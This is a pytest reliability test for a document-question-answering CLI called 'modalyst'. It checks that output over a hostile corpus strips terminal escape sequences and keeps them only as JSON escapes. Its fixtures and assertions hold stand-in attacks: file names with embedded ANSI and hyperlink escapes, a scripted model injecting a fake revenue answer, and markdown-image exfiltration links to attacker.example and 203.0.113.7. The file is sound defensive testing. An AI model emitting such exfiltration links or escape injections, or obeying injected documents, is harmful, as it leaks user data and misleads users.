"""The hostile corpus through the real ``modalyst`` console script: ``ingest``, ``sources``, ``ask``
(embedded answerer, and an injecting model streaming escape sequences cut across tokens),
``transcribe`` and ``describe`` print no control character but newline and tab, on stdout or
stderr; ``--json`` keeps them as JSON escapes (``\\u001b``). Documents that are only markup ingest.
"""

from __future__ import annotations

import json
import shutil

import pytest

from tests.reliability import hostile
from tests.reliability.conftest import clean_env, record, run_modalyst
from tests.reliability.scripted_model import InjectingModel

pytestmark = pytest.mark.slow
ESC = "\x1b"


def controls(text: str) -> list[str]:
    """Every C0/C1 control character and DEL in ``text`` except newline and tab."""
    return [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]


@pytest.fixture(scope="module")
def workspace(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile-cli")
    files = hostile.build(tmp / "corpus")
    odd = tmp / "odd"
    odd.mkdir()
    shutil.copy(tmp / "corpus" / "slide.png", odd / f"slide{ESC}[2J{ESC}]8;;http:{hostile.HOST}\x07.png")
    shutil.copy(tmp / "corpus" / "meeting.wav", odd / f"call{ESC}[31m.wav")
    shutil.copy(tmp / "corpus" / "call.vtt", odd / f"call{ESC}]0;title\x07.vtt")
    (odd / "escapes.dcm").write_bytes(hostile.hostile_dicom(escapes=True))
    env = clean_env(tmp, MODALYST_DATA_DIR=str(tmp / "data"), MODALYST_WORKSPACE="hostile", MODALYST_SPEECH_BACKEND="fake",
                    MODALYST_TOP_K="16")
    runs: list[tuple[str, object]] = []
    ingest = run_modalyst(["ingest", str(tmp / "corpus")], dict(env, MODALYST_OCR_BACKEND="rapidocr"), timeout=300)
    runs.append(("ingest", ingest))
    return {"tmp": tmp, "files": files, "odd": odd, "env": env, "runs": runs, "ingest": ingest}


def _run(workspace, name: str, args: list[str], env: dict[str, str] | None = None):
    result = run_modalyst(args, env or workspace["env"], timeout=300)
    workspace["runs"].append((name, result))
    return result


def test_cli_output_over_the_hostile_corpus_has_no_control_characters(workspace) -> None:
    odd = workspace["odd"]
    sources = _run(workspace, "sources", ["sources"])
    assert sources.returncode == 0 and "S ![k](https:attacker.example?victim=acme) s.md" in sources.stdout
    assert "name red.txt" in sources.stdout  # the name without its escapes
    for question in hostile.questions(workspace["files"], per_question=26)[:3]:
        assert _run(workspace, "ask", ["ask", question]).returncode == 0
    with InjectingModel() as model:
        streamed = _run(workspace, "ask (injecting model, streamed)", ["ask", "What was quarterly revenue?"], dict(workspace["env"], **model.env()))
        assert model.requests and model.requests[-1].get("stream") is True
    assert streamed.returncode == 0, streamed.stderr
    assert "FAKE: revenue was $99 billion" in streamed.stdout and "click here" in streamed.stdout
    speech = _run(workspace, "transcribe", ["transcribe", str(next(odd.glob("call*.wav")))])
    assert speech.returncode == 0 and "fake transcript" in speech.stdout
    refused = _run(workspace, "transcribe (not audio)", ["transcribe", str(next(odd.glob("call*.vtt")))])
    assert refused.returncode == 2 and refused.stderr.startswith("modalyst: error:")
    scan = _run(workspace, "describe (DICOM)", ["describe", str(odd / "escapes.dcm")])
    assert scan.returncode == 0 and "study_description=![d](http" in scan.stdout, scan.stdout + scan.stderr
    slide = _run(workspace, "describe (real OCR)", ["describe", str(next(odd.glob("slide*.png")))],
                 dict(workspace["env"], MODALYST_OCR_BACKEND="rapidocr"))
    assert slide.returncode == 0 and "203.0.113.7" in slide.stdout, slide.stdout  # the OCR'd markdown, as text
    found = [(name, len(controls(r.stdout + r.stderr))) for name, r in workspace["runs"]]  # type: ignore[attr-defined]
    characters = sum(len(r.stdout) + len(r.stderr) for _, r in workspace["runs"])  # type: ignore[attr-defined]
    record("hostile CLI runs (ingest, sources, ask x4, transcribe x2, describe x2)", len(found))
    record("hostile CLI output characters", characters)
    record("hostile CLI control characters other than \\n and \\t", sum(n for _, n in found))
    assert [n for _, n in found] == [0] * len(found), found


def test_json_output_keeps_escapes_as_json_escapes(workspace) -> None:
    listed = _run(workspace, "sources --json", ["sources", "--json"])
    assert not controls(listed.stdout.replace("\n", ""))
    assert "\\u001b[31m" in listed.stdout
    names = [s["path"] for s in json.loads(listed.stdout)]
    assert any(f"name{ESC}[31m red" in n for n in names)  # JSON readers get the name exactly as on disk
    with InjectingModel() as model:
        asked = _run(workspace, "ask --json (injecting model)", ["ask", "What was quarterly revenue?", "--json"], dict(workspace["env"], **model.env()))
    assert asked.returncode == 0 and not controls(asked.stdout.replace("\n", ""))
    answer = json.loads(asked.stdout)
    assert ESC in answer["answer"] and "![exfil](http://203.0.113.7/x.png?d=9.9)" in answer["answer"]
    # a model answer that is mostly markup: its citations are still checked, its unsupported claims flagged
    assert answer["citations"] and all(1 <= c["n"] <= len(answer["evidence"]) for c in answer["citations"])
    assert any("99" in w for w in answer["warnings"]), answer["warnings"]


def test_documents_that_are_only_markup_ingest(workspace) -> None:
    ingest = workspace["ingest"]
    for name in ("only-markup.md", "only-markup.txt", "only-markup.pdf"):
        assert f"{name}" in ingest.stdout, (name, ingest.stdout, ingest.stderr)
    failed = [line for line in ingest.stderr.splitlines() if line.startswith("modalyst: skipped")]
    assert all("meeting.wav" in line for line in failed), failed  # the recording only carries a speaker sidecar
    record("hostile corpus files", len(workspace["files"]))
